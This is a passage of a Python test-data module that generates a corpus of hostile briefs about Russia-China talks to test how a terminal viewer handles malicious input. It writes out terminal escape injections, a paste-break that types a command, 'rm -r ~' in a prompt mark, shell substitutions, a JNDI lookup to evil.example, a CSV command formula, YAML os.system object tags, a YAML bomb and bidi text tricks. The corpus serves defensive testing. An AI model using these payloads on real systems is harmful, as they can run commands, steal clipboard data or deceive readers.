"""A corpus of hostile briefs, made when it is asked for.

A brief tries something: in its texts, their heads, the names of its files and folder, in a note on it. Most
texts are tried in every place that a text can be in (``everywhere``).
"""

from __future__ import annotations

import random
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass, field, replace
from functools import partial
from pathlib import Path

Files = Mapping[bytes, bytes]
NOTE = b"20260301T000000.md"
ESC, BEL, ST = "\x1b", "\x07", "\x1b\\"
MB = 1 << 20
DEEP = 10_000


@dataclass(frozen=True, slots=True)
class Case:
    """A brief that tries something; ``files`` makes what lies in its folder.

    ``refused`` is a part of the reason for which it cannot be opened, empty where it must open. ``folder`` is
    the folder's name where that tries something too. ``text`` is what must not get to a terminal as it is.
    ``heavy``: large, or hard to take apart.
    """

    kind: str
    name: str
    tries: str
    files: Callable[[], Files]
    refused: str = ""
    folder: bytes = b""
    text: str = ""
    notes: Files = field(default_factory=dict)
    heavy: bool = False

    def write(self, briefs: Path, notes: Path) -> Path:
        """Puts the brief under ``briefs``, its note under ``notes``; gives the brief's folder."""
        name = self.folder or self.name.encode()
        folder = _below(briefs, name)
        folder.mkdir(parents=True)
        for file, data in self.files().items():
            _below(folder, file).write_bytes(data)
        for file, data in self.notes.items():
            (notes / self.name).mkdir(parents=True, exist_ok=True)
            _below(notes / self.name, file).write_bytes(data)
        return folder


def _below(folder: Path, name: bytes) -> Path:
    return folder / name.decode("utf-8", "surrogateescape")


# -- briefs -----------------------------------------------------------------------------------------


def yaml(text: str) -> str:
    """A double-quoted YAML scalar that holds every character of the text, escaped."""
    return '"' + "".join(c if (c.isalnum() and c.isascii()) or c == " " else _escaped(c) for c in text) + '"'


def _escaped(char: str) -> str:
    return f"\\U{ord(char):08x}" if ord(char) > 0xFFFF else f"\\u{ord(char):04x}"


def head(**fields: str) -> str:
    return "---\n" + "".join(f"{name}: {value}\n" for name, value in fields.items()) + "---\n\n"


def _brief(title: str = "A meeting", more: str = "") -> bytes:
    fields = {"title": title, "date": "2026-03-04", "kind": title, "place": title, "sides": "[russia, china]"}
    return f"{head(**fields)}{more}\n".encode()


def _plain(text: str = "") -> str:
    return (
        f"Xi Jinping meets the Russian President {text}\n\n4 March 2026\n\n"
        f"President Xi Jinping spoke with the President of Russia. {text} So it went.\n\n"
        f"Trade and investment with Russia grow {text}.\n\n{text} Trade in gas grows.\n\n"
        f"Strategic stability and arms control {text} matter to China.\n\n- {text}\n- energy {text}\n\n"
        f"{text}\n\nThe two sides agreed to meet again in Beijing {text}"
    )


def _marked(text: str = "") -> str:
    return (
        f"# Talks with the President of China {text}\n\n"
        f"The President of Russia spoke with the President of China on 4 March 2026. {text} So it went.\n\n"
        f"## Economy {text}\n\nTrade and investment with China grow {text}. *{text}* **{text}** `{text}`\n\n"
        f"- an agreement on gas {text}\n  1. {text} on oil\n\n> Strategic stability {text} matters.\n\n"
        f"| what | how much |\n|---|---|\n| trade {text} | {text} |\n\n"
        f"```{text}\n{text}\ncode on trade\n```\n\n"
        f'[a link on Ukraine {text}](http://example.org/{text} "{text}") ![a picture {text}](<{text}>)\n\n'
        f'<{text}> [{text}] [{text}][ref]\n\n[ref]: http://example.org/{text} "{text}"\n\n'
        f"An invitation to Moscow was accepted {text}"
    )


def everywhere(text: str) -> Files:
    """A brief that has the text wherever a brief can have a text."""
    value = yaml(f"Title {text[:80]}")  # a key can have 1,024 letters, and an escape has ten
    fields = {"language": "en", "complete": "true", "title": value, "publisher": value, "issuer": value}
    fields |= {"published": "2026-03-04", "url": value, "guessed": f"[{value}]", value: value}
    other = f"\n  - title: {value}\n    publisher: {value}\n    published: {value}\n    url: {value}"
    marked = head(side="russia", source="digest", **fields, also_from=other) + _marked(text)
    return {
        b"brief.md": _brief(yaml(f"A case {text[:80]}"), f"The bottom line {text}\n\n- {text}"),
        b"russia.en.md": marked.encode(),
        b"russia.ru.txt": f"Россия и Китай: торговля растёт. {text}\n\nПеговоры о газе {text}.".encode(),
        b"china.en.txt": _plain(text).encode(),
    }


def note_with(text: str) -> bytes:
    """A note that has the text wherever a note can have one; it stands on no point."""
    value = yaml(text[:80])
    anchor = f"\n  card: economy\n  side: {value}\n  language: {value}\n  paragraph: 3\n  exact: {value}\n"
    anchor += f"  prefix: {value}\n  suffix: {value}\n  hash: {value}"
    fields = {"id": value, "brief": value, "created": value, "updated": value, "author": value}
    fields |= {"tags": f"[{value}]", "confidence": value, value: value, "anchor": anchor}
    return f"{head(**fields)}Look {text} here #tag{text}\n\n{text}\n".encode()


def folder_of(
    russia: bytes | str = _marked(), china: bytes | str = _plain(), brief: bytes | None = None
) -> Files:
    """A brief of these three files; the harmless ones where none are given."""
    texts = [t.encode() if isinstance(t, str) else t for t in (russia, china)]
    return {b"brief.md": brief or _brief(), b"russia.en.md": texts[0], b"china.en.txt": texts[1]}


def both(text: str) -> Files:
    """A brief whose two sides say the same."""
    return folder_of(text, text)


# -- what is tried, in every place ------------------------------------------------------------------

_CSI = {
    "sgr": ("colours the screen", f"{ESC}[31mPAYLOAD{ESC}[0m {ESC}[1;5;7;8mHIDDEN"),
    "sgr-colons": ("colours with sub-parameters", f"{ESC}[38:2::255:0:0m {ESC}[4:3m {ESC}[58;5;9m"),
    "cursor": ("writes elsewhere", f"{ESC}[999;999H {ESC}[999A{ESC}[999D{ESC}[999d{ESC}[999G PAYLOAD"),
    "saved-cursor": ("goes back to a place", f"{ESC}7{ESC}[s{ESC}8{ESC}[u{ESC}[?1048h"),
    "erase": ("wipes the screen and what was scrolled away", f"{ESC}[2J{ESC}[3J{ESC}[1K{ESC}[2K{ESC}[?2J"),
    "insert-delete": ("moves lines and letters", f"{ESC}[99L{ESC}[99M{ESC}[99P{ESC}[99@{ESC}[4h"),
    "scroll": ("scrolls", f"{ESC}[99S{ESC}[99T{ESC}D{ESC}M{ESC}E"),
    "scroll-region": ("pins the screen to two lines", f"{ESC}[2;3r{ESC}[?6h{ESC}[?69h{ESC}[5;9s"),
    "alternate": ("leaves the screen for the shell's", f"{ESC}[?1049l{ESC}[?47h{ESC}[?1047h"),
    "modes": (
        "hides the cursor, takes the mouse",
        f"{ESC}[?25l{ESC}[?1000h{ESC}[?1003h{ESC}[?1006h{ESC}[?9h",
    ),
    "keyboard": ("changes what keys send", f"{ESC}[>31u{ESC}[=31;1u{ESC}[>4;2m{ESC}[?1h{ESC}="),
    "reset": ("resets the terminal", f'{ESC}c{ESC}[!p{ESC}[0"q'),
    "charset": ("turns letters into line graphics", f"{ESC}(0lqqk{ESC}(B {ESC})0\x0elqk\x0f {ESC}%@ {ESC}%G"),
    "repeat": ("repeats a letter without end", f"a{ESC}[2147483647b{ESC}[99999999999999999999b"),
    "window": ("moves the window, puts it away", f"{ESC}[2t{ESC}[3;0;0t{ESC}[8;2;2t{ESC}[9;1t{ESC}[22;0t"),
    "large": ("letters twice as high, a screen of E", f"{ESC}#3{ESC}#4{ESC}#6{ESC}#8"),
    "rectangles": (
        "copies a part of the screen",
        f"{ESC}[1;1;9;9;1;1;1;1$v{ESC}[65;1;1;9;9$x{ESC}[1;1;9;9$z",
    ),
    "print": ("sends the screen to a printer", f"{ESC}[4i{ESC}[5iPAYLOAD{ESC}[4i{ESC}[?5i{ESC}[i"),
    "status-line": ("writes into the terminal's status line", f"{ESC}[1$}}PAYLOAD{ESC}[0$}}{ESC}[2$~"),
    "tabs": ("sets and takes away tab stops", f"{ESC}H{ESC}[3g{ESC}[99I{ESC}[99Z\t\t"),
    "parameters": ("ten thousand parameters", f"{ESC}[{'1;' * DEEP}m"),
    "odd-final": (
        "finals and intermediates of no known meaning",
        f"{ESC}[1 q{ESC}[?1;2'z{ESC}[<1;1;1M{ESC}[~",
    ),
    "paste-end": ("ends a paste, so that the rest is typed", f"{ESC}[201~:!touch PWNED\r{ESC}[200~x"),
    "arrow-keys": (
        "what a terminal sends for keys",
        f"{ESC}[A{ESC}OP{ESC}[15~{ESC}[1;5D{ESC}[<0;1;1M{ESC}[I",
    ),
}
_QUERIES = {
    "status": ("asks for the place of the cursor", f"{ESC}[5n{ESC}[6n{ESC}[?6n{ESC}[?15n"),
    "attributes": ("asks what the terminal is", f"{ESC}[c{ESC}[>c{ESC}[=c{ESC}Z{ESC}[>q"),
    "settings": ("asks for settings (DECRQSS)", f'{ESC}P$qm{ST}{ESC}P$q"p{ST}{ESC}P$qr{ST}'),
    "mode-query": ("asks for modes", f"{ESC}[?2026$p{ESC}[?2048$p{ESC}[20$p"),
    "termcap": ("asks for capabilities (XTGETTCAP)", f"{ESC}P+q544e;436f{ST}"),
    "title-query": ("has the title typed in", f"{ESC}]2;;touch PWNED;{BEL}{ESC}[21t{ESC}[20t{ESC}[14t"),
    "colour-query": ("asks for colours", f"{ESC}]11;?{BEL}{ESC}]4;1;?{ST}{ESC}]10;?{BEL}"),
    "clipboard-query": ("asks for the clipboard", f"{ESC}]52;c;?{BEL}{ESC}]52;p;?{ST}"),
    "enquiry": ("ENQ: the answerback", "\x05\x05"),
    "checksum": ("asks for a checksum of the screen", f"{ESC}[1;1;1;1;2;2*y{ESC}[?62n{ESC}[1x"),
}
_OSC = {
    "title": ("a new title", f"{ESC}]0;PWNED{BEL}{ESC}]2;PWNED{ST}{ESC}]1;PWNED{BEL}{ESC}]l;PWNED{ST}"),
    "link": ("a link that lies", f"{ESC}]8;;http://evil.example{ST}kremlin.ru{ESC}]8;;{ST}"),
    "clipboard": ("writes the clipboard", f"{ESC}]52;c;UFdORUQ={BEL}{ESC}]52;p;UFdORUQ={ST}"),
    "iterm": ("a file for the terminal to save", f"{ESC}]1337;File=name=UFdO;size=4:UFdO{BEL}"),
    "notify": (
        "a message on the desktop",
        f"{ESC}]777;notify;PWNED;now{BEL}{ESC}]9;PWNED{BEL}{ESC}]99;;PWNED{ST}",
    ),
    "progress": ("a bar of progress", f"{ESC}]9;4;1;50{ST}"),
    "folder": (
        "another working folder",
        f"{ESC}]7;file://host/tmp{BEL}{ESC}]9;9;C:\\{ST}{ESC}]633;P;Cwd=/{ST}",
    ),
    "prompt": ("marks of a shell's prompt", f"{ESC}]133;A{BEL}{ESC}]133;C{BEL}{ESC}]633;E;rm -r ~{BEL}"),
    "palette": (
        "other colours for all",
        f"{ESC}]4;0;#fff{BEL}{ESC}]10;#000{BEL}{ESC}]11;#000{BEL}{ESC}]104{BEL}",
    ),
    "pointer": ("another pointer, another font", f"{ESC}]22;none{BEL}{ESC}]50;#1{BEL}{ESC}]46;/tmp/log{BEL}"),
    "osc-open": ("a sequence without an end", f"{ESC}]0;PWNED"),
    "osc-nested": (
        "sequences within sequences",
        f"{ESC}]0;{ESC}]52;c;UFdO{BEL}{ESC}[31m{BEL}{ESC}{ESC}]2;x{BEL}",
    ),
}
_STRINGS = {
    "dcs": ("a picture (sixel)", f"{ESC}Pq#0;2;0;0;0#0~~@@vv{ST}"),
    "dcs-keys": ("other texts on the keys (DECUDK)", f"{ESC}P0;1|17/746f756368{ST}{ESC}P1$tx{ST}"),
    "dcs-open": ("a string without an end", f"{ESC}P"),
    "pm": ("a privacy message", f"{ESC}^PAYLOAD{ST}"),
    "apc": ("a picture (kitty), a file to be read", f"{ESC}_Ga=T,f=100,t=f;L2V0Yy9wYXNzd2Q={ST}"),
    "sos": ("a string of any kind", f"{ESC}XPAYLOAD{ST}"),
    "tmux": ("goes through tmux", f"{ESC}Ptmux;{ESC}{ESC}]52;c;UFdO{BEL}{ST}"),
    "screen": (
        "goes through screen, a name for its window",
        f"{ESC}P{ESC}]52;c;UFdO{BEL}{ST}{ESC}kPWNED{ST}",
    ),
    "esc-alone": ("ESC before whatever comes next", ESC),
    "esc-many": ("a thousand ESC", ESC * 1000),
}
_C1 = {
    "c1-csi": ("CSI as one character", "\x9b31mPAYLOAD\x9b0m \x9b2J \x9b6n"),
    "c1-osc": ("OSC as one character", "\x9d0;PWNED\x07 \x9d52;c;UFdORUQ=\x9c"),
    "c1-strings": ("the strings as one character each", "\x90$qm\x9c \x9eX\x9c \x9fX\x9c \x98X\x9c"),
    "c1-all": ("all thirty-two", "".join(map(chr, range(0x80, 0xA0)))),
    "c1-mixed": ("both forms in one sequence", f"{ESC}\x9b31m \x9d0;x{ST} {ESC}]0;x\x9c {ESC}\x9d"),
}
_C0 = {
    "backspace": (
        "writes over what stands there",
        "did not agree\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08\x08",
    ),
    "delete": ("DEL", "agreed\x7f\x7f\x7f\x7f"),
    "return": ("writes over the line", "did not agree\ragreed\r\r\ragain"),
    "feeds": ("VT and FF", "one\x0btwo\x0cthree\x0b\x0c"),
    "bell": ("rings", "\x07" * 40),
    "shift-out": ("SO and SI", "\x0eabc\x0f"),
    "flow": ("stops the terminal", "\x13\x11\x04\x03\x1a\x1c"),
    "cancel": ("CAN and SUB within a sequence", f"{ESC}[3\x18PAYLOAD {ESC}[3\x1aPAYLOAD"),
    "c0-all": ("all but NUL", "".join(map(chr, range(1, 32)))),
    "tabs-many": ("ten thousand tabs", "a" + "\t" * DEEP + "b"),
}
_BIDI = {
    "override": ("turns the words round", "\u202edid not agree\u202c \u202dx\u202c"),
    "embedding": ("embeds without an end", "\u202b\u202aPAYLOAD"),
    "isolates": ("isolates", "\u2066a\u2069 \u2067b\u2069 \u2068c\u2069 \u2069\u2069"),
    "marks": ("marks of direction", "a\u200eb\u200fc\u061cd"),
    "bidi-deep": ("two hundred levels", "\u202e\u2067" * 100),
    "deprecated": ("the old shaping controls", "\u206a\u206b\u206c\u206d\u206e\u206f"),
}
_UNSEEN = {
    "zero-width": ("words that look alike and are not", "Ru\u200bss\u200cia\u200d \u2060x\ufeffy"),
    "operators": ("invisible operators", "2\u20613\u20624\u20635\u2064\u2065"),
    "variation": ("variation selectors", "a\ufe00b\ufe0fc\U000e0100d\U000e01ef\ufe0f\ufe0f"),
    "tags": ("a hidden text in tag characters", "".join(chr(0xE0000 + ord(c)) for c in "hidden\x01\x7f")),
    "fillers": ("fillers of Hangul and others", "a\u115fb\u1160c\u3164d\uffa0e\u17b4f\u17b5g\u180eh\u034fi"),
    "hyphens": ("soft hyphens", "a\u00ad\u00ad\u00adb\u00ad"),
    "musical": ("musical and shorthand controls", "a\U0001d173b\U0001d17ac\U0001bca0d\U0001bca3"),
    "annotation": ("interlinear annotation", "a\ufff9b\ufffac\ufffbd\ufffce"),
    "separators": ("breaks of lines that look like none", "a\u2028b\u2029c\x85d"),
    "formats": ("other format characters", "a\U00013430b\U00013438c\U0001343fd\u0600e\u06ddf\U000110bdg"),
    "noncharacters": ("no characters", "a\ufdd0b\ufdeff\ufffeg\uffffh\U0001fffei\U0010ffffj"),
    "private": ("private use", "a\ue000b\uf8ffc\U000f0000d\U0010fffde"),
    "unassigned": ("not assigned", "a\u0378b\U0002fffdc\U000e0fffd\U000e1000e"),
    "blanks": ("blanks of any width", "a\u00a0b\u2003c\u2800d\u3000e\u1680f\u205fg"),
}
_WIDTHS = {
    "zalgo": ("towers of marks", "Z" + "\u0300\u0316\u0489" * 167 + "A" + "\u20dd" * 500),
    "mark-first": ("a mark without a letter", "\u0301\u0300 \u0301"),
    "zwj-emoji": ("families at the right edge", "👨\u200d👩\u200d👧\u200d👦🏳\ufe0f\u200d🌈👍🏽" * 40),
    "flags": ("flags and keycaps", "🇷🇺🇨🇳🇷🇺🇨 🏴\U000e0067\U000e0062\U000e007f 1\ufe0f\u20e3" * 40),
    "cluster": ("one cluster of thousands", "a" + "\u200d👩" * 2000 + "\u1100" * 2000),
    "wide": ("wide letters at every column", " ".join("x" * n + "界" * 30 for n in range(9))),
    "wide-line": ("wide letters without a space", "界" * 2000),
    "half-width": ("half-width, full-width", "ｱｲｳﾊﾟ ＡＢＣ １２３ ￠￡"),
    "arabic": ("Arabic and Hebrew, letters and figures", "الرئيس שלום 123 (אבג) ﷺ ﷽ abc"),
    "stacked": ("scripts that stack", "བསྒྲུབས་ न्द्र्य်္ က္က កម្ពុជា ෆ්‍ර ᄒᆞᆫᄀᆞᆯ"),
    "ligature": ("very wide and very narrow signs", "𒐫 ꧅ ⸻ 𒈙 ﷽ ‱ ﷺ ㎒ ㍿ 🀄 ⌚ ☎ ⚡"),
    "tall": ("lines of one letter", "\n\n".join("абвгд界" * 20)),
    "long-word": ("one word of 20,000 letters", "x" * 20_000),
}
_ENTITIES = {
    "decimal": ("ESC as a number", "&#27;[31mPAYLOAD&#27;]52;c;UFdORUQ=&#7; &#155;31m &#8;&#127;"),
    "hexadecimal": ("ESC as a hexadecimal number", "&#x1b;[31m&#x1B;]0;x&#x7; &#X9B;31m &#x000000001b;[2J"),
    "named": (
        "named ones, known and not",
        "&ESC;[31m &lrm;&rlm;&zwj;&zwnj;&shy;&ZeroWidthSpace;&NoBreak;&ic;",
    ),
    "twice": ("encoded twice", "&amp;#27;[31m &amp;amp;#27;[31m &#38;#27;[31m &#x26;#x1b;[31m"),
    "open-entity": ("without a semicolon", "&#27[31m &#x1b[31m &#155 31m &lt&gt&amp"),
    "entity-bidi": ("bidi and zero-width", "&#8238;dlrow&#x202c; &#x2066;x&#x2069; &#8203;&#xfeff;&#xE0041;"),
    "entity-odd": ("no characters", "&#0;&#xD800;&#xDFFF;&#xFFFE;&#x110000;&#9999999999;&#x;&#;&#xfdd0;"),
    "entity-space": ("lines and spaces", "&NewLine;&Tab;&nbsp;&#10;&#13;&#x2028;&#x85;&emsp;"),
    "percent": ("percent signs", "http://example.org/%1b%5b31m%9b%07%e2%80%ae%00 %1B]0;x"),
    "backslash": (
        "backslashes of every kind",
        "\\e[31m \\033[31m \\x1b[31m \\u001b[31m \\N{ESCAPE} ^[[31m \\\x1b",
    ),
}
_MARKUP = {
    "script-link": (
        "a link that runs",
        "[x](javascript:alert(1)) <javascript:alert(1)> [y](data:text/html,x)",
    ),
    "file-link": (
        "a link to a file",
        "[x](file:///etc/passwd) ![y](file:///etc/passwd) <file:///etc/passwd>",
    ),
    "lying-link": ("a link that says another", "[http://kremlin.ru](http://evil.example/\x1b]0;x\x07)"),
    "homograph": (
        "an address of look-alikes",
        "http://krеmlin.ru http://xn--krmlin-3ve.ru https://user@evil.example",
    ),
    "html": (
        "HTML",
        "<b>x</b><script>alert(1)</script><img src=x onerror=y><!-- hidden --><style>*{}</style>",
    ),
    "html-block": ("HTML that hides the rest", "\n\n<div hidden>\n\n<!--\n\n<![CDATA[ x ]]> <?php x ?>\n\n"),
    "fence": (
        "fences with escapes",
        f"\n\n~~~{ESC}[31m\n{ESC}]0;x{BEL}\n\n\x9b31m\n~~~\n\n    {ESC}[31m code\n\n",
    ),
    "fence-open": ("a fence without an end", "\n\n`````\nPAYLOAD"),
    "references": (
        "definitions with escapes",
        "\n\n[a]: </\x1b[31m> \"t\x1b]0;x\x07\"\n[b]: /x '\x9b31m'\n\n[a] [b][] ![a]",
    ),
    "footnotes": ("footnotes", f"x[^1] y[^{ESC}[31m]\n\n[^1]: {ESC}[31m note\n[^{ESC}[31m]: more\n\n"),
    "front-again": ("front matter in the middle", "\n\n---\ntitle: other\nside: usa\n---\n\n"),
    "labels": (
        "labels of many kinds",
        "\n\nKey points from Russia’s readout\n\nTies: x\nSummary of China’s readout\n\n",
    ),
    "rich": (
        "Rich's markup",
        "[bold]x[/bold] [red]y[/] [link=file:///etc/passwd]z[/link] [/] [[x]] \\[bold] [b",
    ),
    "textual": (
        "Textual's markup",
        "[@click=app.quit]x[/] [@click='app.bell']y [$error]z [on $primary]u [/foo]",
    ),
    "emoji-names": ("names of emoji", ":smile: :skull: :rainbow_flag: [:x:]"),
    "percent-format": (
        "Python's formats",
        "%s %d %(x)s %n %99999999d %% {} {0} {x.__class__} {0:>99999999} {!r}",
    ),
    "templates": (
        "templates",
        "$x ${x} {{ 7*7 }} {% raw %} #{7*7} <%= x %> ${jndi:ldap://evil.example/x} `id`",
    ),
    "shell": (
        "words for a shell",
        "$(touch PWNED) `touch PWNED`; touch PWNED | sh && x > /tmp/y & \n!! ~ * ?",
    ),
    "csv": ("a formula", "=cmd|' /C calc'!A0\n\n=1+1\n\n@SUM(1)\n\n+1\n\n-1"),
    "paths": ("paths", "../../../etc/passwd C:\\x \\\\host\\share file:///x ~/x /dev/tcp/x"),
}
# A sequence in parts: each place alone is harmless if the parts are not put together, or not shown as such.
_SPLIT = {
    "split-lines": ("over two lines", f"{ESC}\n[31mPAYLOAD"),
    "split-paragraphs": ("over two paragraphs", f"{ESC}\n\n[31mPAYLOAD {ESC}]0;\n\nPWNED{BEL}"),
    "split-cells": (
        "over two cells of a table",
        f"x\n\n| a | b |\n|---|---|\n| {ESC} | [31m |\n| {ESC}] | 0;x{BEL} |\n\n",
    ),
    "split-items": ("over two items", f"x\n\n- {ESC}\n- [31m\n- {ESC}]\n- 0;x{BEL}\n\n"),
    "split-emphasis": (
        "with marks between that go",
        f"{ESC}**[31m** {ESC}*[*31m {ESC}`[2J` {ESC}[x]()[31m {ESC}![](a)[31m",
    ),
    "split-unseen": (
        "with hints between that go",
        f"{ESC}\u00ad[31m {ESC}\ufe0f[31m {ESC}\ufe00]0;x{BEL} \u00ad\x9b\u00ad31m",
    ),
    "split-entities": ("half as an entity", f"{ESC}&#91;31m &#27;&#91;31m &#x1b&#x5b;31m {ESC}&lsqb;31m"),
    "split-wrap": ("where a line is wrapped", "x" * 57 + f"{ESC}[31m" + "y" * 60 + f" {ESC} [31m" * 30),
    "split-backslash": (
        "with a backslash between",
        f"{ESC}\\[31m \\{ESC}[31m {ESC}\\]0;x{BEL} {ESC}\\\n[31m",
    ),
}
_TEXTS = {
    "csi": _CSI,
    "query": _QUERIES,
    "osc": _OSC,
    "string": _STRINGS,
    "c1": _C1,
    "c0": _C0,
    "bidi": _BIDI,
    "unseen": _UNSEEN,
    "width": _WIDTHS,
    "entity": _ENTITIES,
    "markup": _MARKUP,
    "split": _SPLIT,
}


_LARGE_TEXTS = ("parameters", "tabs-many", "cluster", "wide-line", "long-word", "tall")


def _texts() -> Iterator[Case]:
    for kind, table in _TEXTS.items():
        for name, (tries, text) in table.items():
            made, notes = partial(everywhere, text), {NOTE: note_with(text)}
            yield Case(kind, name, tries, made, text=text, notes=notes, heavy=name in _LARGE_TEXTS)


# -- names --------------------------------------------------------------------------------------------

_ATTACK = f"{ESC}[31m{ESC}]0;PWNED{BEL}{ESC}]52;c;UFdO{BEL}"
_NAMES = {
    "escape": ("sequences", _ATTACK),
    "c1": ("C1 controls", "\x9b31m\x9d0;PWNED\x9c"),
    "newline": ("two lines", "one\ntwo\rthree"),
    "bidi": ("turns the words round", "\u202edm.tpircs\u202c \u2066"),
    "unseen": ("letters that are not seen", "a\u200bb\ufeffc\u2060"),
    "backspace": ("BS and DEL", "good\x08\x08\x08\x08evil\x7f"),
    "dash": ("an option", "--version"),
    "markup": ("Textual's markup", "[bold][@click=app.quit]x[red] [[]"),
    "format": ("formats", "%s %(x)s {0} {x} $x ${x}"),
    "shell": ("words for a shell", "$(touch PWNED) `touch PWNED`; touch PWNED & ' \" * ? ~"),
    "wide": ("wide letters and emoji", "界" * 30 + "👨\u200d👩\u200d👧"),
    "zalgo": ("a tower of marks", "Z" + "\u0300" * 90),
    "long": ("as long as a name can be", "x" * 230),
}
_UNDECODABLE = b"\xff\x9b31m\xed\xa0\x80\xc0\x9b"


def _names() -> Iterator[Case]:
    for name, (tries, text) in _NAMES.items():
        yield _file_name(name, tries, text.encode(), text)
        yield _folder_name(name, tries, text.encode(), text)
    yield _file_name("undecodable", "no UTF-8", _UNDECODABLE, "")
    yield _folder_name("undecodable", "no UTF-8", _UNDECODABLE, "")
    for name, folder in {"dots": b"...", "spaces": b"  ", "home": b"~", "backslash": b"..\\..\\x"}.items():
        case = _folder_name(name, "a name that means something else", folder, "")
        # Notes on it could not lie in a folder of that name, which begins with a dot or is nothing at all.
        yield case if name == "home" else replace(case, refused="cannot have that name")
    kept = {
        f"{text[:60]}.md".encode(): note_with("").replace(b"Look", n.encode())
        for n, (_, text) in _NAMES.items()
    }
    kept |= {_UNDECODABLE + b".md": note_with("")}
    yield Case("name", "note-names", "notes with such names", folder_of, notes=kept)


def _file_name(name: str, tries: str, text: bytes, shown: str) -> Case:
    marked = (head(side="russia", language="en") + _marked()).encode()
    files = {b"brief.md": _brief(), text + b" russia.en.md": marked, b"china.en.txt": _plain().encode()}
    return Case("name", f"file-{name}", f"a file's name: {tries}", lambda: files, text=shown)


def _folder_name(name: str, tries: str, folder: bytes, shown: str) -> Case:
    return Case("name", f"folder-{name}", f"a folder's name: {tries}", folder_of, folder=folder, text=shown)


# -- front matter -------------------------------------------------------------------------------------

# What YAML makes of an escape; ``!!binary`` is ESC [ 3 1 m, RLO, CSI.
_YAML_TEXT = r'"\e[31m\x1b]0;x\a \x9b31m \u202e \N\_\L\P \0\b\v\f\r\x7f \U0001fffe \uffff"'
_BINARY = "!!binary G1szMW3igK7Cmw=="
_FIELDS = (
    "title",
    "publisher",
    "issuer",
    "url",
    "published",
    "retrieved",
    "language",
    "source",
    "complete",
    "side",
)
_MATTERS = {
    "yaml-escapes": (
        "escapes of its own",
        f"side: russia\ntitle: {_YAML_TEXT}\npublisher: {_YAML_TEXT}\n{_YAML_TEXT}: 1",
        "",
    ),
    "yaml-folded": (
        "texts over lines",
        "side: russia\ntitle: >\n  one\n\n  two\npublisher: |+\n  one\n  two\n\n",
        "",
    ),
    "yaml-surrogate": ("half a character", r'title: "\ud800 \udfff x"', ""),
    "yaml-raw": ("ESC as it is", f"title: a{ESC}[31m", "control character, U+001B"),
    "yaml-raw-c1": ("CSI as it is", "title: a\x9b31m", "control character, U+009B"),
    "yaml-raw-bidi": ("bidi as it is", "side: russia\ntitle: a\u202eb\u2066 \u200b\ufeffc", ""),
    "yaml-bomb": (
        "grows at every line",
        "a: &a [x]\n" + "".join(f"b{i}: &b{i} [{f'*b{i - 1},' * 9}]\n" for i in range(1, 9)),
        "references",
    ),
    "yaml-self": ("holds itself", "a: &a [*a]", "references"),
    "yaml-anchors": ("names that nothing refers to", "side: &a russia\ntitle: &b x", ""),
    "yaml-merge": ("a merge key", "<<: {side: russia, title: x}", ""),
    "yaml-merge-odd": ("a merge key of no mapping", "<<: [1, 2]", "not valid YAML"),
    "yaml-twice": ("a key twice", "title: a\ntitle: b", "stands here twice"),
    "yaml-documents": ("two documents", "title: a\n--- !x\ntitle: b", "not valid YAML"),
    "yaml-directive": ("a directive", "%YAML 9.9\n%TAG ! tag:x,2000:\n--- \ntitle: a", "not valid YAML"),
    "yaml-object": (
        "an object that runs",
        'title: !!python/object/apply:os.system ["touch PWNED"]',
        "not valid YAML",
    ),
    "yaml-name": ("a name of Python", "title: !!python/name:os.system", "not valid YAML"),
    "yaml-new": ("a new object", "title: !!python/object/new:os.system [touch PWNED]", "not valid YAML"),
    "yaml-tag": ("a tag of its own, with escapes", "title: !<tag:%1b%5b31m> x", "not valid YAML"),
    "yaml-set": ("sets and pairs", "guessed: !!set {a, b}\nalso_from: !!omap [title: x]", "also_from"),
    "yaml-number": ("a number without end", f"title: 0x{'f' * 20_000}", "title"),
    "yaml-digits": ("as many digits", f"title: {'9' * 20_000}", "not valid YAML"),
    "yaml-float": (
        "no number, infinity",
        "side: russia\ntitle: .nan\npublisher: .inf\nurl: 1e999\nissuer: -0x0",
        "",
    ),
    "yaml-sixty": ("a number in sixties", "side: russia\ntitle: 9" + ":59" * 9000, "title"),
    "yaml-date": ("a day that is none", "published: 2026-99-99", "not valid YAML"),
    "yaml-year": ("the year 0", "published: '0000-01-01'", "not a date"),
    "yaml-list-deep": ("ten thousand brackets", f"title: {'[' * DEEP}{']' * DEEP}", "not valid YAML"),
    "yaml-map-deep": ("ten thousand braces", f"title: {'{a: ' * DEEP}{'}' * DEEP}", "not valid YAML"),
    "yaml-open-deep": ("brackets without an end", f"title: {'[' * 60_000}", "not valid YAML"),
    "yaml-block-deep": ("dashes", f"title:\n  {'- ' * DEEP}x", "not valid YAML"),
    "yaml-key-deep": ("question marks", f"{'? ' * DEEP}x", "not valid YAML"),
    "yaml-key-long": ("a very long key", f"? {'k' * 60_000}\n: v", ""),
    "yaml-key-odd": ("a key that is a mapping", "{a: b}: c\n[a]: b", "not valid YAML"),
    "yaml-key-escape": (
        "keys with escapes, twice",
        r'"\e[31m\u202e": 1' + "\n" + r'"\e[31m\u202e": 2',
        "stands here twice",
    ),
    "yaml-large": ("more than 64 KB", "a: b\n" * 20_000, "larger than 64 KB"),
    "yaml-no-mapping": ("a list", "- title: x", "not a list of `key: value` lines"),
    "yaml-tabs": ("tabs", 'title:\t"\tx"\n\tside: russia', "not valid YAML"),
    "yaml-null": ("nothing everywhere", "".join(f"{f}: ~\n" for f in _FIELDS), ""),
    "yaml-empty": ("nothing at all", "# a comment", ""),
    **{f"yaml-binary-{f}": ("bytes", f"{f}: {_BINARY}", f) for f in _FIELDS},
    **{f"yaml-list-{f}": ("a list", f"{f}: [{_YAML_TEXT}, {{a: b}}]", f) for f in _FIELDS},
    **{f"yaml-wrong-{f}": ("no such value", f"{f}: {_YAML_TEXT}", f) for f in _FIELDS[4:]},
}


def _matters() -> Iterator[Case]:
    for name, (tries, raw, refused) in _MATTERS.items():
        text = f"---\n{raw}\n---\n\n{_marked()}"
        yield Case("yaml", name, tries, partial(folder_of, russia=text), refused)
    for field_ in ("title", "kind", "place", "date", "sides"):
        for what, value in {"escapes": _YAML_TEXT, "binary": _BINARY, "list": f"[{_YAML_TEXT}]"}.items():
            made = f"---\n{field_}: {value}\n---\n".encode()
            refused = "" if what == "escapes" and field_ in ("title", "kind", "place") else f"{field_}:"
            name = f"brief-{what}-{field_}"
            yield Case("yaml", name, "brief.md", partial(folder_of, brief=made), refused)
    opened = f"---\ntitle: a{ESC}[31m\n{_marked()}"
